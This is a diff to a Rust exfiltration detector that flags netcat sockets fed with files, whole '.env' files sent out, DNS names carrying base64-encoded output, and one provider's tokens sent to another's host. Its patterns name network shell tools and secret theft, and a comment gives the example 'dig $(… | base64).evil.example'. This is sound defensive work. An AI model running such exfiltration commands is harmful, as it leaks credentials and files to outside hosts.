@@ -1,12 +1,12 @@
 //! Sensitive data that leaves for the network.
 
-use super::flow::{Flow, Taint};
+use super::flow::{DUMP, Flow, Taint};
 use super::host::{host_of, is_drop, is_forge, is_local, vendor};
 use super::send::{Part, Role, Sending, Transport, sending};
 use crate::effects::options::{Spec, Words};
-use crate::effects::secrets::Class;
+use crate::effects::secrets::{Class, secret_name};
 use crate::effects::{Certainty, Cx, Effect, EffectKind, Scope, Trait};
-use crate::syntax::{CodeFact, Invocation, Origin, Seg, Stdin, Value};
+use crate::syntax::{CodeFact, Invocation, Origin, Seg, Stdin, Unknown, Value};
 
 /// Effects of sending.
 pub(super) fn effects(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
@@ -28,13 +28,31 @@ pub(super) fn effects(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
         .fold(None, |worst, taint| Taint::worst(worst, Some(taint)));
     let host = sending.host.clone().unwrap_or_else(|| "unknown host".to_owned());
     if let Some(taint) = worst {
-        if let Some(sure) = sureness(&taint, &sending) {
+        let dump_by_ssh = taint.what == DUMP && inv.name() == Some("ssh");
+        let sure = sureness(&taint, &sending).or_else(|| dump_by_ssh.then_some(Certainty::Likely));
+        if let Some(sure) = sure {
             out.push(leave(inv, cx, &host, &taint, sure));
         }
-    } else if is_drop(&host) && uploads(inv, &sending) {
+    } else if is_drop(&host) && uploads(inv, &sending) || pours(inv, &sending, cx) {
         let taint = Taint { what: "a file".to_owned(), class: Class::Tree, variable: None, sure: true };
         out.push(leave(inv, cx, &host, &taint, Certainty::Likely));
     }
+}
+
+/// Says whether a bare socket to another machine gets a file, or what a program other than `echo` writes.
+fn pours(inv: &Invocation, sending: &Sending, cx: &Cx) -> bool {
+    let bare = matches!(inv.name(), Some("nc" | "ncat" | "netcat" | "nc.openbsd" | "nc.traditional"));
+    let Some(host) = sending.host.as_deref().filter(|host| bare && !is_local(host)) else { return false };
+    let said = |at: &usize| {
+        let name = cx.line.invocations.get(*at).and_then(Invocation::name);
+        name.is_none_or(|name| matches!(name, "echo" | "printf" | "print" | "sleep" | "yes" | "true" | "curl"))
+    };
+    host != "whoever connects"
+        && match &inv.stdin {
+            Stdin::File(file) => !file.is("/dev/null"),
+            Stdin::Pipe(from) => from.iter().take(16).any(|at| !said(at)),
+            _ => false,
+        }
 }
 
 fn leave(inv: &Invocation, cx: &Cx, host: &str, taint: &Taint, sure: Certainty) -> Effect {
@@ -76,9 +94,28 @@ fn taint(part: &Part, sending: &Sending, inv: &Invocation, cx: &Cx, flow: &Flow)
         Part::Repository => None,
         Part::Text(value, role) => {
             let taint = flow.value(value, cx.index, 0).or_else(|| encoded_name(value, *role, cx))?;
-            (!is_login(&taint, value, *role, sending)).then_some(taint)
+            (is_whole_file(&taint, value, cx) || !is_login(&taint, value, *role, sending)).then_some(taint)
         }
     }
+}
+
+/// What turns up in a name only to be carried away by it.
+const ENCODERS: &[&str] = &[
+    "base64", "base32", "xxd", "od", "hexdump", "id", "cat", "env", "printenv", "md5sum", "sha1sum", "sha256sum",
+];
+
+/// `$(cat .env)`: all of it, not the one value in it that logs in somewhere.
+fn is_whole_file(taint: &Taint, value: &Value, cx: &Cx) -> bool {
+    fn whole(index: usize, cx: &Cx, depth: u8) -> bool {
+        let (Some(inv), Some(depth)) = (cx.line.invocations.get(index), depth.checked_sub(1)) else { return false };
+        let hands_on = matches!(inv.name(), Some("cat" | "tac" | "bat" | "base64" | "base32" | "xxd" | "gzip" | "od"));
+        hands_on
+            && match &inv.stdin {
+                Stdin::Pipe(from) => from.iter().take(16).all(|from| whole(*from, cx, depth)),
+                _ => true,
+            }
+    }
+    taint.class == Class::EnvFile && value.sources().take(16).any(|from| whole(from, cx, 8))
 }
 
 /// `dig $(… | base64).evil.example`: output that somebody took care to encode as a name.
@@ -88,15 +125,16 @@ fn encoded_name(value: &Value, role: Role, cx: &Cx) -> Option<Taint> {
             .invocations
             .get(index)
             .and_then(Invocation::name)
-            .is_some_and(|name| matches!(name, "base64" | "base32" | "xxd" | "od" | "hexdump"))
+            .is_some_and(|name| ENCODERS.contains(&name))
     };
     let below = |index: usize| match cx.line.invocations.get(index).map(|inv| &inv.stdin) {
         Some(Stdin::Pipe(from)) => from.iter().take(16).any(|from| encoder(*from)),
         _ => false,
     };
+    let tells = |unknown: &Unknown| matches!(unknown.origin, Origin::Other("user name" | "user id" | "checksum"));
     let named = role == Role::Name
         && value.suffix().contains('.')
-        && value.sources().take(16).any(|index| encoder(index) || below(index));
+        && (value.sources().take(16).any(|index| encoder(index) || below(index)) || value.unknowns().any(tells));
     named.then(|| Taint { what: "encoded output".to_owned(), class: Class::Account, variable: None, sure: false })
 }
 
@@ -197,13 +235,20 @@ fn uploads(inv: &Invocation, sending: &Sending) -> bool {
 /// Code that reads something sensitive and talks to the network.
 fn code(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
     let Some(host) = inv.facts.iter().find_map(|fact| match fact {
-        CodeFact::Network { host, sends: true } => Some(host_of(&host.text())),
+        CodeFact::Network { host, sends } if *sends || is_foreign(inv, host) => Some(host_of(&host.text())),
         _ => None,
     }) else {
         return;
     };
     let flow = Flow::new(cx);
-    let Some(taint) = Taint::worst(flow.facts(inv), flow.input(inv, cx.index, 0)) else { return };
+    let foreign = foreign_variable(inv, &host);
+    let Some(taint) = Taint::worst(foreign.clone(), Taint::worst(flow.facts(inv), flow.input(inv, cx.index, 0))) else {
+        return;
+    };
+    if foreign.is_some() && !is_local(&host) && taint.class == Class::Token {
+        out.push(leave(inv, cx, &host, &taint, Certainty::Likely));
+        return;
+    }
     if (is_local(&host) && taint.class < Class::Key) || matches!(taint.class, Class::Token | Class::State | Class::Tree)
     {
         return;
@@ -212,6 +257,28 @@ fn code(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
     let text =
         inv.words().flatten().any(|word| matches!(word, "-c" | "-e" | "-r")) || matches!(inv.stdin, Stdin::Text(_));
     out.push(leave(inv, cx, &host, &taint, if text { Certainty::Likely } else { sure }));
+}
+
+/// Says whether an address that code puts together goes to somebody whom a variable it reads is not for.
+fn is_foreign(inv: &Invocation, host: &Value) -> bool {
+    host.has_unknown() && foreign_variable(inv, &host_of(&host.text())).is_some()
+}
+
+/// A variable of one provider that code sends to another's host.
+fn foreign_variable(inv: &Invocation, host: &str) -> Option<Taint> {
+    inv.facts.iter().take(256).find_map(|fact| match fact {
+        CodeFact::ReadEnv(Some(name)) => {
+            let owners = vendor(name).filter(|_| secret_name(name))?;
+            let at_home = host.is_empty() || host.starts_with('$') || owners.iter().any(|owner| host.contains(owner));
+            (!at_home && host.contains('.')).then(|| Taint {
+                what: format!("${name}"),
+                class: Class::Token,
+                variable: Some(name.clone()),
+                sure: false,
+            })
+        }
+        _ => None,
+    })
 }
 
 /// `git push https://somewhere/x`: the repository goes to a place that is not set up as its remote.
